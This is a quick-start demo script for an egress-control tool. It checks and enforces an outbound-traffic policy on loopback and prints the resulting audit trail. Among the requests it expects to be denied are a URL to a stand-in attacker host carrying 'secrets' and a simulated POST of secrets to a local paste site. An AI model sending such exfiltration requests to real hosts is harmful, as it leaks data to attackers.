// The quick-start demo: the whole product on loopback. A policy is linted and queried; a "service" makes
// allowed and denied calls through the SDK; the same policy is enforced at the edge; the audit trail
// shows every decision. Nothing here leaves 127.0.0.1.
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Writable } from 'node:stream';
import { fileURLToPath } from 'node:url';
import { main as cli } from '@egress-guard/cli';
import { startEdge } from '@egress-guard/edge';
import { install, uninstall } from '@egress-guard/node';
import { ProxyAgent, request } from 'undici';
import { createDemoPki } from './pki.mjs';
import { demoLookup, startServer } from './servers.mjs';

const policyFile = fileURLToPath(new URL('./egress.yaml', import.meta.url));
const say = (line = '') => process.stdout.write(`${line}\n`);
const title = (text) => say(`\n\u001b[1m== ${text}\u001b[0m`);
const events = [];
const sink = new Writable({
  write(chunk, _enc, cb) {
    for (const line of String(chunk).split('\n')) if (line.trim()) events.push(JSON.parse(line));
    cb();
  },
});

title('1. The policy');
await cli(['lint', policyFile], { out: say, err: say });

title('2. Decisions, without running anything (egress-guard check)');
for (const [url, ...flags] of [
  ['https://api.payments.demo.test:8443/v1/charges', '--method', 'POST'],
  ['https://api.payments.demo.test:8443/admin'],
  ['https://bucket-1.s3.demo.test:8443/object'],
  ['https://pastebin.demo.test:8443/raw/x'],
  ['https://127.1:8443/'],
  ['https://exfil.attacker.example/?d=secrets'],
]) {
  const lines = [];
  await cli(['check', policyFile, url, ...flags], { out: (l) => lines.push(l), err: (l) => lines.push(l) });
  say(`${lines[0]}\n${lines[1]}`);
}

title('3. A service guarded by the SDK (install(), fetch)');
const pki = await createDemoPki();
const api = await startServer(pki, ['api.payments.demo.test']);
const paste = await startServer(pki, ['pastebin.demo.test']);
const slow = await startServer(pki, ['slow.partner.demo.test'], (req, res) =>
  setTimeout(() => res.end('late'), 1000),
);
const flaky = await startServer(pki, ['flaky.partner.demo.test'], (req, res) => {
  res.statusCode = 503;
  res.end('unavailable');
});
install({ policyFile, lookup: demoLookup, ca: pki.caPem, destination: sink, watch: false });

async function call(label, url, init) {
  try {
    const res = await fetch(url, init);
    await res.text();
    say(`  \u2714 ${label}: HTTP ${res.status}`);
  } catch (error) {
    const cause = error.cause ?? error;
    say(`  \u2718 ${label}: ${cause.code ?? cause.name} ${cause.reason ? `(${cause.reason})` : ''}`);
    say(`      ${String(cause.message).split('\n')[0]}`);
  }
}
await call('GET the payments API', `https://api.payments.demo.test:${api.port}/v1/balance`);
await call('POST a charge', `https://api.payments.demo.test:${api.port}/v1/charges`, {
  method: 'POST',
  body: '{}',
});
await call('DELETE on the payments API', `https://api.payments.demo.test:${api.port}/v1/charges/1`, {
  method: 'DELETE',
});
await call('a path outside /v1', `https://api.payments.demo.test:${api.port}/admin`);
await call('exfiltrate to a paste site', `https://pastebin.demo.test:${paste.port}/api?data=secrets`, {
  method: 'POST',
  body: 'secrets',
});
await call('an IP literal', `https://127.0.0.1:${api.port}/v1/balance`);
await call('a slow partner (response timeout 300ms)', `https://slow.partner.demo.test:${slow.port}/`);
for (let i = 1; i <= 4; i++)
  await call(`a failing partner, call ${i}`, `https://flaky.partner.demo.test:${flaky.port}/`);
say(
  `\n  what the servers saw: payments API ${api.connections} connection(s), paste site ${paste.connections} (denied calls never connect), flaky ${flaky.connections} (the open breaker stopped the 4th)`,
);
await uninstall();

title('4. The same policy at the edge (explicit proxy; nothing decrypted)');
const edgeEvents = [];
const edgeSink = new Writable({
  write(chunk, _enc, cb) {
    for (const line of String(chunk).split('\n')) if (line.trim()) edgeEvents.push(JSON.parse(line));
    cb();
  },
});
const edge = await startEdge({
  policy: policyFile,
  listeners: [{ kind: 'explicit', host: '127.0.0.1', port: 0 }],
  admin: { host: '127.0.0.1', port: 0 },
  lookup: demoLookup,
  destination: edgeSink,
  watch: false,
});
const proxyPort = edge.listeners[0].port;
say(
  `  edge listening on 127.0.0.1:${proxyPort} (HTTPS_PROXY=http://127.0.0.1:${proxyPort}), metrics on :${edge.adminAddress.port}/metrics`,
);
const viaEdge = new ProxyAgent({ uri: `http://127.0.0.1:${proxyPort}`, requestTls: { ca: pki.caPem } });
async function edgeCall(label, url) {
  try {
    const res = await request(url, { dispatcher: viaEdge });
    await res.body.text();
    say(`  \u2714 ${label}: HTTP ${res.statusCode} through the edge`);
  } catch (error) {
    say(
      `  \u2718 ${label}: refused by the edge (${error.code ?? error.name}: ${String(error.message).split('\n')[0]})`,
    );
  }
}
const pasteBefore = paste.connections;
await edgeCall('an allowed API', `https://api.payments.demo.test:${api.port}/v1/balance`);
await edgeCall('a paste site', `https://pastebin.demo.test:${paste.port}/raw/x`);
await edgeCall('a name no rule lists', `https://exfil.demo.test:${api.port}/`);
say(`  what the paste site saw through the edge: ${paste.connections - pasteBefore} connection(s)`);
for (const e of edgeEvents.filter((x) => x['event.name'] === 'egress.decision')) {
  say(
    `  edge decision ${e['egress.decision'].padEnd(8)} ${String(e['egress.reason']).padEnd(18)} ${e['server.address']}:${e['server.port']}  rule=${e['egress.rule'] ?? '-'}`,
  );
}
await viaEdge.close();
await edge.close();

title('5. The audit trail of the service (one decision and one completion event per call)');
for (const e of events) {
  if (e['event.name'] === 'egress.decision') {
    say(
      `  decision   ${e['egress.decision'].padEnd(8)} ${String(e['egress.reason']).padEnd(20)} ${e['http.request.method'] ?? ''} ${e['url.full'] ?? e['server.address']}  rule=${e['egress.rule'] ?? '-'}`,
    );
  } else if (e['event.name'] === 'egress.completion') {
    say(
      `  completion ${String(e['egress.outcome']).padEnd(8)} ${String(e['http.response.status_code'] ?? '').padEnd(20)} ${e['egress.duration_ms']} ms`,
    );
  } else {
    say(`  ${e['event.name']} ${e['egress.breaker.state'] ?? e['egress.policy.hash'] ?? ''}`);
  }
}

title('6. A policy learned from this audit trail (egress-guard learn), for review before enforcing');
const logFile = join(mkdtempSync(join(tmpdir(), 'egress-guard-demo-')), 'audit.jsonl');
writeFileSync(logFile, [...events, ...edgeEvents].map((e) => JSON.stringify(e)).join('\n'));
const indent = (text) => {
  for (const line of String(text).split('\n')) say(`  ${line}`);
};
await cli(['learn', logFile], { out: indent, err: indent });

for (const s of [api, paste, slow, flaky]) await s.close();
say('\nDone. Read docs/sdk.md, docs/edge.md and docs/policy.md next.');
